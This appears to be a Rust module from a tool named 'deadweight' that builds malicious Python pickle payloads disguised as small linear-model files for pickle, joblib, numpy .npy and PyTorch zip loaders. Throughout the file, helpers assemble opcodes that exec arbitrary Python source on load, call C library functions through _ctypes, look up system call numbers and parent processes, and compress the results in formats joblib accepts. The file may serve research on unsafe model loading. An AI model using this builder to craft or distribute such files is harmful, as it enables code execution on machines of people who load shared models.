//! What payloads have in common: opcodes that call, and the files of each of Python's loaders around them.

use std::io::{Cursor, Write};

use zip::CompressionMethod;
use zip::write::{SimpleFileOptions, ZipWriter};

use super::{BuildError, Loader, Target};
use crate::pickle::{Assembler, Op};

/// The opcodes that call `module.name` with one text, and leave what it returns.
pub fn call(assembler: &mut Assembler, module: &str, name: &str, argument: &str) {
    assembler.global(module, name).text(argument).op(Op::Tuple1).op(Op::Reduce);
}

/// The opcodes that run Python source in a namespace of its own, so that functions in it see its names
/// wherever the loader was called, and leave `None`.
pub fn exec(assembler: &mut Assembler, source: &str) {
    assembler.global("builtins", "exec").text(source).op(Op::EmptyDict);
    assembler.op(Op::Tuple2).op(Op::Reduce);
}

/// The opcodes that call a function of the C library with what `arguments` writes, and leave the int
/// that it returns. They keep to the part of ctypes that is written in C: `import ctypes` makes a
/// callback of its own, and that may need memory to execute.
pub fn native(assembler: &mut Assembler, function: &str, arguments: impl FnOnce(&mut Assembler)) {
    assembler.global("_ctypes", "call_function");
    assembler.global("_ctypes", "dlsym").global("_ctypes", "dlopen");
    // dlopen(None, RTLD_NOW): whatever the program itself is linked with.
    assembler.op(Op::None).int(2).op(Op::Tuple2).op(Op::Reduce);
    assembler.text(function).op(Op::Tuple2).op(Op::Reduce).op(Op::Mark);
    arguments(assembler);
    assembler.op(Op::Tuple).op(Op::Tuple2).op(Op::Reduce);
}

/// The opcodes that leave the number of a system call on the machine that loads the file.
pub fn call_number(assembler: &mut Assembler, x86_64: i64, aarch64: i64) {
    assembler.global("_operator", "getitem").op(Op::EmptyDict).op(Op::Mark);
    assembler.text("x86_64").int(x86_64).text("aarch64").int(aarch64).op(Op::SetItems);
    assembler.global("platform", "machine").op(Op::EmptyTuple).op(Op::Reduce);
    assembler.op(Op::Tuple2).op(Op::Reduce);
}

/// The opcodes that leave the number of the process that started the loader. Where that one cannot
/// be seen, in a namespace of its own, it is 1: 0 would mean a whole group of processes.
pub fn parent(assembler: &mut Assembler) {
    assembler.global("builtins", "max").int(1);
    assembler.global("posix", "getppid").op(Op::EmptyTuple).op(Op::Reduce);
    assembler.op(Op::Tuple2).op(Op::Reduce);
}

/// The opcodes that call what lies on the stack with an iterator over the objects of a class that are
/// alive: by them a pickle finds the file that it is being read from.
pub fn living(assembler: &mut Assembler, module: &str, class: &str) {
    assembler.global("builtins", "filter");
    assembler.global(module, &format!("{class}.__instancecheck__"));
    assembler.global("gc", "get_objects").op(Op::EmptyTuple).op(Op::Reduce);
    assembler.op(Op::Tuple2).op(Op::Reduce).op(Op::Tuple1).op(Op::Reduce);
}

/// The opcodes of a wrapper of joblib's; the array follows in the file.
/// Source: `NumpyArrayWrapper` in joblib/numpy_pickle.py.
pub fn joblib_wrapper(assembler: &mut Assembler, dtype: &str, elements: i64) {
    assembler.global("joblib.numpy_pickle", "NumpyArrayWrapper").op(Op::EmptyTuple);
    assembler.op(Op::NewObj).op(Op::EmptyDict).op(Op::Mark);
    assembler.text("subclass").global("numpy", "ndarray");
    assembler.text("shape").int(elements).op(Op::Tuple1).text("order").text("C");
    assembler.text("dtype").global("numpy", "dtype").text(dtype).op(Op::NewFalse);
    assembler.op(Op::NewTrue).op(Op::Tuple3).op(Op::Reduce);
    assembler.text("allow_mmap").op(Op::NewFalse).text("numpy_array_alignment_bytes").int(16);
    assembler.op(Op::SetItems).op(Op::Build);
}

/// Python source that defines `libc(name, *arguments)`, which calls a function of the C library, and
/// `Byte`, of which a buffer can be made. See [`native`] for why it is not `ctypes`.
pub const LIBC: &str = "import _ctypes
class Byte(_ctypes._SimpleCData):
    _type_ = 'b'
def libc(name, *arguments):
    library = _ctypes.dlopen(None, 2)
    return _ctypes.call_function(_ctypes.dlsym(library, name), arguments)
";

/// A text as Python writes it in source. It has no line feed in it and no quote that ends early.
///
/// ```
/// use deadweight::attacks::payload::quoted;
/// assert_eq!(quoted("it's\n"), r"'it\'s\n'");
/// ```
pub fn quoted(text: &str) -> String {
    let mut quoted = String::from("'");
    for character in text.chars() {
        match character {
            '\'' => quoted.push_str("\\'"),
            '\\' => quoted.push_str("\\\\"),
            '\n' => quoted.push_str("\\n"),
            '\r' => quoted.push_str("\\r"),
            '\t' => quoted.push_str("\\t"),
            other => quoted.push(other),
        }
    }
    quoted.push('\'');
    quoted
}

/// A file for one of Python's loaders whose pickle runs Python source when it is loaded, and becomes
/// a dict that looks like a model: `{"coef": [0.5, -0.25], "intercept": <what exec returns>}`.
pub fn program(attack: &'static str, target: Target, source: &str) -> Result<Vec<u8>, BuildError> {
    file(attack, target, |assembler| exec(assembler, source))
}

/// A file for one of Python's loaders; its pickle is a dict that looks like a model, and one value in
/// it is what `object` writes.
pub fn file(
    attack: &'static str,
    target: Target,
    object: impl FnOnce(&mut Assembler),
) -> Result<Vec<u8>, BuildError> {
    let failed = |problem: String| BuildError { attack, target: target.id().into(), problem };
    let pickle = model(object).map_err(|error| failed(error.to_string()))?;
    match target {
        Target::Python(Loader::Pickle | Loader::Joblib) => Ok(pickle),
        Target::Python(Loader::Numpy) => Ok(object_array(&pickle)),
        Target::Python(Loader::TorchZip) => {
            archive(&[("archive/data.pkl", &pickle), ("archive/version", b"3\n")])
                .map_err(|error| failed(error.to_string()))
        }
        Target::Format(_) => Err(failed("it is made for Python's loaders".into())),
    }
}

/// The compressions that joblib recognizes by the first bytes of a file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Compression {
    /// `joblib.dump(..., compress=True)`.
    Zlib,
    /// A gzip file.
    Gzip,
    /// A bzip2 file.
    Bzip2,
    /// The old format of lzma, `.lzma`.
    Lzma,
    /// An xz file.
    Xz,
    /// An lz4 frame; joblib needs the package lz4 for it.
    Lz4,
}

/// As [`file()`], and compressed.
pub fn compressed(
    attack: &'static str,
    target: Target,
    compression: Compression,
    object: impl FnOnce(&mut Assembler),
) -> Result<Vec<u8>, BuildError> {
    let plain = file(attack, target, object)?;
    compress(compression, &plain).map_err(|error| BuildError {
        attack,
        target: target.id().into(),
        problem: error.to_string(),
    })
}

fn compress(compression: Compression, plain: &[u8]) -> std::io::Result<Vec<u8>> {
    match compression {
        Compression::Zlib => {
            let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), Default::default());
            encoder.write_all(plain)?;
            encoder.finish()
        }
        Compression::Gzip => {
            let mut encoder = flate2::write::GzEncoder::new(Vec::new(), Default::default());
            encoder.write_all(plain)?;
            encoder.finish()
        }
        Compression::Bzip2 => {
            let mut encoder = bzip2::write::BzEncoder::new(Vec::new(), Default::default());
            encoder.write_all(plain)?;
            encoder.finish()
        }
        Compression::Lzma => {
            let options = lzma_rust2::LzmaOptions::default();
            let mut encoder = lzma_rust2::LzmaWriter::new_use_header(Vec::new(), &options, None)?;
            encoder.write_all(plain)?;
            encoder.finish()
        }
        Compression::Xz => {
            let options = lzma_rust2::XzOptions::default();
            let mut encoder = lzma_rust2::XzWriter::new(Vec::new(), options)?;
            encoder.write_all(plain)?;
            encoder.finish()
        }
        Compression::Lz4 => {
            let mut encoder = lz4_flex::frame::FrameEncoder::new(Vec::new());
            encoder.write_all(plain)?;
            Ok(encoder.finish()?)
        }
    }
}

/// The pickle of a dict with the members of a small linear model.
///
/// # Errors
/// An argument that does not fit its opcode.
pub fn model(
    object: impl FnOnce(&mut Assembler),
) -> Result<Vec<u8>, crate::pickle::assemble::AssembleError> {
    let mut assembler = Assembler::new();
    assembler.proto(4).op(Op::EmptyDict).op(Op::Mark);
    assembler.text("coef").op(Op::EmptyList).op(Op::Mark).int(1).int(-2).op(Op::Appends);
    assembler.text("intercept");
    object(&mut assembler);
    assembler.op(Op::SetItems).op(Op::Stop);
    assembler.finish()
}

/// A `.npy` file of dtype object whose one element is what the pickle makes.
pub fn object_array(pickle: &[u8]) -> Vec<u8> {
    npy("'|O'", "(1,)", pickle)
}

/// A `.npy` file of this dtype and shape, both as Python writes them, whatever its data is.
/// Source: numpy's format description, version 1.0.
pub fn npy(dtype: &str, shape: &str, data: &[u8]) -> Vec<u8> {
    let mut header = format!("{{'descr': {dtype}, 'fortran_order': False, 'shape': {shape}, }}");
    // Magic, version and length are ten bytes; with the line feed the whole is a multiple of 64.
    while (10 + header.len() + 1) % 64 != 0 {
        header.push(' ');
    }
    header.push('\n');
    let mut bytes = b"\x93NUMPY\x01\x00".to_vec();
    bytes.extend(u16::try_from(header.len()).unwrap_or(u16::MAX).to_le_bytes());
    bytes.extend(header.as_bytes());
    bytes.extend(data);
    bytes
}

/// A zip archive of stored members, in this order.
pub fn archive(members: &[(&str, &[u8])]) -> zip::result::ZipResult<Vec<u8>> {
    let mut archive = ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default().compression_method(CompressionMethod::Stored);
    for (name, bytes) in members {
        archive.start_file(*name, options)?;
        archive.write_all(bytes)?;
    }
    Ok(archive.finish()?.into_inner())
}
